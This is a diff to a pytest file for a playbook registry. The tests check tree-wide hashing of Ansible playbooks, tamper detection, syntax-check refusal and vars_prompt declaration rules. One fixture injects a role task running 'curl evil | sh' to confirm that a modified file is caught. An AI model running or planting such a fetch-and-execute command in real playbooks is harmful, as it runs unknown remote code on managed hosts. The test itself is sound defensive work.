@@ -1,15 +1,16 @@
-"""The playbook registry: `playbooks sync` registers what the playbook directory holds,
-validates sidecars with errors naming file and key, and finds playbooks by name or tag."""
+"""The playbook registry: `playbooks sync` registers what the playbook directory holds (the
+whole tree behind each playbook's hash), validates sidecars with errors naming file and key,
+refuses what fails Ansible's syntax check or would prompt, and finds playbooks by name or tag."""
 
 from __future__ import annotations
 
-import hashlib
 from pathlib import Path
 
 import pytest
 from sqlalchemy import select
 
-from core.errors import InvalidInput, UnknownPlaybook
+from core.errors import InvalidInput, PlaybookChanged, UnknownPlaybook
+from core.playbook_files import playbook_sha256, verify_unchanged
 from core.playbook_registry import (
     get_playbook,
     list_playbooks,
@@ -33,6 +34,7 @@ def book_dir(tmp_path: Path) -> Path:
 
 def write(directory: Path, name: str, text: str = PLAY) -> Path:
     path = directory / name
+    path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(text)
     return path
 
@@ -230,7 +232,7 @@ def test_sync_registers_new_playbooks_with_hash_and_sidecar_and_audits_each(sess
     assert report.created == ["deploy", "ping"]
     deploy = get_playbook(session, "deploy")
     assert deploy.file_path == "deploy.yml"
-    assert deploy.file_hash == hashlib.sha256(path.read_bytes()).hexdigest()
+    assert deploy.file_hash == playbook_sha256(book_dir, path.name)
     assert (deploy.description, deploy.tags, deploy.timeout_seconds) == ("Deploy", ["web"], 60)
     assert deploy.variables == {"version": {"type": "string", "required": True}}
     rows = list(session.scalars(select(AuditLog).where(AuditLog.action == "playbook.register")))
@@ -262,7 +264,7 @@ def test_sync_updates_a_changed_file_and_sidecar(session, book_dir):
 
     assert report.updated == {"ping": ["description", "file_hash"]}
     book = get_playbook(session, "ping")
-    assert book.file_hash == hashlib.sha256(path.read_bytes()).hexdigest()
+    assert book.file_hash == playbook_sha256(book_dir, path.name)
     assert book.description == "Now described"
     assert ("playbook.update", "ping") in audit_actions(session)
 
@@ -278,6 +280,7 @@ def test_sync_deactivates_playbooks_whose_file_vanished_and_revives_them_when_ba
     session.commit()
 
     assert report.deactivated == ["old"]
+    assert report.updated == {"ping": ["file_hash"]}  # the tree lost a file
     assert [b.name for b in list_playbooks(session)] == ["ping"]
     with pytest.raises(UnknownPlaybook, match="deactivated"):
         get_playbook(session, "old")
@@ -287,7 +290,7 @@ def test_sync_deactivates_playbooks_whose_file_vanished_and_revives_them_when_ba
     again = sync_playbooks(session, book_dir)
     session.commit()
 
-    assert again.updated == {"old": ["reactivated"]}
+    assert again.updated == {"old": ["reactivated"], "ping": ["file_hash"]}
     assert get_playbook(session, "old").is_active
 
 
@@ -312,6 +315,159 @@ def test_a_sidecar_without_its_playbook_is_a_warning(session, book_dir):
 
     assert report.created == ["ping"]
     assert any("pnig.playbot.yml" in w for w in report.warnings)
+
+
+# the whole tree: what changed is named -------------------------------------------------
+
+
+ROLE_PLAY = ("- name: Play\n  hosts: all\n  gather_facts: false\n  roles: [foo]\n")
+ROLE_TASKS = "- name: Ping\n  ansible.builtin.ping:\n"
+
+
+def test_an_injected_task_in_a_role_refuses_the_run_naming_the_file(session, book_dir):
+    write(book_dir, "site.yml", ROLE_PLAY)
+    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
+    sync_playbooks(session, book_dir)
+    session.commit()
+    book = get_playbook(session, "site")
+    assert verify_unchanged(book, book_dir) == (book_dir / "site.yml").resolve()
+
+    write(book_dir, "roles/foo/tasks/main.yml",
+          ROLE_TASKS + "- name: Injected\n  ansible.builtin.shell: curl evil | sh\n")
+
+    with pytest.raises(PlaybookChanged) as error:
+        verify_unchanged(get_playbook(session, "site"), book_dir)
+    assert "`site` changed on disk since it was registered: modified roles/foo/tasks/main.yml" \
+        in str(error.value)
+    assert "playbot playbooks sync" in str(error.value)
+
+
+def test_the_refusal_names_added_and_removed_files_and_counts_the_rest(session, book_dir):
+    write(book_dir, "site.yml", ROLE_PLAY)
+    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
+    write(book_dir, "roles/foo/vars/main.yml", "x: 1\n")
+    sync_playbooks(session, book_dir)
+    session.commit()
+
+    (book_dir / "roles/foo/vars/main.yml").unlink()
+    for n in range(6):
+        write(book_dir, f"roles/foo/templates/t{n}.j2", "{{ x }}\n")
+
+    with pytest.raises(PlaybookChanged) as error:
+        verify_unchanged(get_playbook(session, "site"), book_dir)
+    message = str(error.value)
+    assert "added roles/foo/templates/t0.j2" in message
+    assert "and 2 more files" in message  # 7 changes, 5 named (removals last)
+
+
+def test_sync_after_a_role_edit_says_what_changed_updates_every_playbook_and_keeps_the_manifest(
+        session, book_dir):
+    write(book_dir, "site.yml", ROLE_PLAY)
+    write(book_dir, "ping.yml")
+    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
+    first = sync_playbooks(session, book_dir, origin=CLI)
+    session.commit()
+    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS + "- ansible.builtin.debug: {msg: x}\n")
+
+    report = sync_playbooks(session, book_dir, origin=CLI)
+    session.commit()
+
+    assert first.tree_changes is None  # nothing to compare with yet
+    assert report.changed and report.updated == {"ping": ["file_hash"], "site": ["file_hash"]}
+    assert report.tree_changes.modified == ["roles/foo/tasks/main.yml"]
+    rows = list(session.scalars(select(AuditLog).where(AuditLog.action == "playbook.sync")
+                                .order_by(AuditLog.id)))
+    assert len(rows) == 2
+    assert rows[1].resource_type == "playbook_dir" and rows[1].details["via"] == "cli"
+    assert rows[1].details["changes"]["modified"] == ["roles/foo/tasks/main.yml"]
+    assert rows[1].details["files"] == 3
+    assert verify_unchanged(get_playbook(session, "site"), book_dir)
+
+
+def test_a_sync_with_nothing_changed_writes_no_sync_row(session, book_dir):
+    write(book_dir, "ping.yml")
+    sync_playbooks(session, book_dir)
+    session.commit()
+
+    report = sync_playbooks(session, book_dir)
+
+    assert report.tree_changes is not None and not report.tree_changes
+    assert [a for a, _ in audit_actions(session)].count("playbook.sync") == 1
+
+
+# Ansible's syntax check and vars_prompt (the real ansible-playbook) --------------------
+
+
+def test_a_playbook_failing_the_syntax_check_is_refused_with_ansibles_message(session, book_dir):
+    write(book_dir, "ping.yml")
+    write(book_dir, "broken.yml", PLAY + "      bogus_key: 1\n")
+
+    with pytest.raises(InvalidInput) as error:
+        sync_playbooks(session, book_dir)
+    session.rollback()
+
+    message = str(error.value)
+    assert "nothing was changed" in message
+    assert "broken.yml: fails `ansible-playbook --syntax-check`" in message
+    assert "conflicting action statements" in message
+    assert "ping.yml" not in message
+    assert session.scalars(select(Playbook)).all() == [] and audit_actions(session) == []
+
+
+def test_a_playbook_using_a_role_that_is_not_there_is_refused(session, book_dir):
+    write(book_dir, "site.yml", ROLE_PLAY)
+
+    with pytest.raises(InvalidInput, match="the role 'foo' was not found"):
+        sync_playbooks(session, book_dir)
+
+
+PROMPT_PLAY = ("- name: Ask\n  hosts: all\n  gather_facts: false\n  vars_prompt:\n"
+               "    - name: version\n      prompt: Which release?\n      private: false\n"
+               "  tasks:\n    - ansible.builtin.debug: {msg: '{{ version }}'}\n")
+
+
+def test_a_vars_prompt_variable_not_declared_in_the_sidecar_is_refused(session, book_dir):
+    write(book_dir, "ask.yml", PROMPT_PLAY)
+
+    with pytest.raises(InvalidInput) as error:
+        sync_playbooks(session, book_dir)
+
+    assert "ask.yml, play Ask: prompts for `version` (vars_prompt)" in str(error.value)
+    assert "declare `version` in ask.playbot.yml" in str(error.value)
+
+
+@pytest.mark.parametrize("declaration, accepted", [
+    ("{type: string, required: true}", True),
+    ("{type: string, default: '1.0'}", True),
+    ("{type: string, secret: true, required: true}", True),
+    ("{type: string}", False),
+    ("{type: string, secret: true}", False),
+])
+def test_a_prompted_variable_must_be_declared_as_always_given(session, book_dir, declaration,
+                                                              accepted):
+    write(book_dir, "ask.yml", PROMPT_PLAY)
+    write(book_dir, "ask.playbot.yml", f"variables:\n  version: {declaration}\n")
+
+    if accepted:
+        assert sync_playbooks(session, book_dir).created == ["ask"]
+    else:
+        with pytest.raises(InvalidInput, match="ask.yml, play Ask: prompts for"):
+            sync_playbooks(session, book_dir)
+
+
+def test_prompts_in_an_imported_playbook_count_too(session, book_dir):
+    write(book_dir, "plays/ask.yml", PROMPT_PLAY)
+    write(book_dir, "site.yml", "- ansible.builtin.import_playbook: plays/ask.yml\n")
+
+    with pytest.raises(InvalidInput, match="plays/ask.yml, play Ask: prompts for `version`"):
+        scan_playbook_dir(book_dir)
+
+
+def test_a_templated_prompt_name_is_refused_as_unreadable(book_dir):
+    write(book_dir, "ask.yml", PROMPT_PLAY.replace("name: version", "name: '{{ which }}'"))
+
+    with pytest.raises(InvalidInput, match="cannot read"):
+        scan_playbook_dir(book_dir)
 
 
 # finding -------------------------------------------------------------------------------
